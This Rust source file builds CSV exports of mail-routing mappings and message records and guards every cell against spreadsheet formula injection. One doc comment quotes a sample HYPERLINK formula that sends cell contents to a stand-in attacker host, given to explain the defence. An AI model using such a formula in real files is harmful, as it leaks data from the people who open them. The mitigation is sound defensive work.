//! The rows of the CSV exports: a header and one row per record, every cell safe to open in
//! a spreadsheet.

use std::borrow::Cow;

use app::model::{Mapping, MessageRecord};

/// A record an export writes as one CSV row.
pub trait Row {
    /// Column names, in the order of `cells`.
    const HEADER: &'static [&'static str];
    fn cells(&self) -> Vec<Cow<'_, str>>;
}

/// The signs that make a spreadsheet read a cell as a formula when they come first, and their
/// full-width forms, which some spreadsheets fold to them.
const FORMULA_SIGNS: &[char] = &[
    '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// A cell no spreadsheet runs. Senders and subjects come from anyone who can send mail, tags
/// and notes from any vend token: a subject `=HYPERLINK("https://evil.example/?"&A1, "Open")`
/// would otherwise run on the admin's machine when they open the export (CSV injection).
/// A cell gets a leading apostrophe, which spreadsheets take as "this is text" and do not
/// show, when it starts with a tab or a line break (OWASP's list), or when its first
/// character after any white space (a no-break space, a byte-order mark…, which an import
/// may trim) is one of the signs. A program reading the file sees the apostrophe and can
/// strip it (docs/api.md says so).
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    let control = cell.starts_with(['\t', '\r', '\n']);
    let first = cell
        .trim_start_matches(|c: char| c.is_whitespace() || c == '\u{FEFF}')
        .chars()
        .next();
    if control || first.is_some_and(|c| FORMULA_SIGNS.contains(&c)) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `rows` as CSV (RFC 4180: CRLF line ends, fields quoted when they hold a comma, a quote or
/// a line break), led by the header when `header`.
pub fn encode<T: Row>(rows: &[T], header: bool) -> Vec<u8> {
    let mut out = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::with_capacity(256 * (rows.len() + 1)));
    // Writing into memory cannot fail: the only errors are the writer's I/O.
    if header {
        out.write_record(T::HEADER).expect("writes to memory");
    }
    for row in rows {
        out.write_record(row.cells().iter().map(|c| safe_cell(c).into_owned()))
            .expect("writes to memory");
    }
    out.into_inner().expect("flushes to memory")
}

fn optional(v: &Option<String>) -> Cow<'_, str> {
    Cow::Borrowed(v.as_deref().unwrap_or(""))
}

impl Row for Mapping {
    const HEADER: &'static [&'static str] = &[
        "address",
        "account_name",
        "owner",
        "status",
        "account_type",
        "aws_account_id",
        "tags",
        "notes",
        "base",
        "counter",
        "created_at",
        "created_by",
        "updated_at",
        "updated_by",
    ];

    fn cells(&self) -> Vec<Cow<'_, str>> {
        vec![
            Cow::Borrowed(&self.address),
            Cow::Borrowed(&self.account_name),
            Cow::Borrowed(&self.owner),
            Cow::Borrowed(self.status.as_str()),
            Cow::Borrowed(&self.account_type),
            optional(&self.aws_account_id),
            // One column for all tags: their keys differ from mapping to mapping, and a
            // streamed export cannot know every key before its first row.
            Cow::Owned(serde_json::to_string(&self.tags).unwrap_or_default()),
            optional(&self.notes),
            optional(&self.base),
            Cow::Owned(self.counter.map(|c| c.to_string()).unwrap_or_default()),
            Cow::Borrowed(&self.created_at),
            Cow::Borrowed(&self.created_by),
            Cow::Borrowed(&self.updated_at),
            Cow::Borrowed(&self.updated_by),
        ]
    }
}

impl Row for MessageRecord {
    const HEADER: &'static [&'static str] = &[
        "received_at",
        "recipient",
        "sender",
        "subject",
        "outcome",
        "delivered_to",
        "detail",
        "error",
        "attempts",
        "size",
        "verdicts",
        "id",
        "ses_message_id",
        "mailer_message_id",
        "updated_at",
    ];

    fn cells(&self) -> Vec<Cow<'_, str>> {
        vec![
            Cow::Borrowed(&self.received_at),
            Cow::Borrowed(&self.recipient),
            Cow::Borrowed(&self.sender),
            optional(&self.subject),
            Cow::Borrowed(self.outcome.as_str()),
            optional(&self.delivered_to),
            Cow::Borrowed(&self.detail),
            optional(&self.error),
            Cow::Owned(self.attempts.to_string()),
            Cow::Owned(self.size.to_string()),
            Cow::Borrowed(&self.verdicts),
            Cow::Borrowed(&self.id),
            Cow::Borrowed(&self.ses_message_id),
            optional(&self.mailer_message_id),
            Cow::Borrowed(&self.updated_at),
        ]
    }
}

#[cfg(test)]
mod tests;
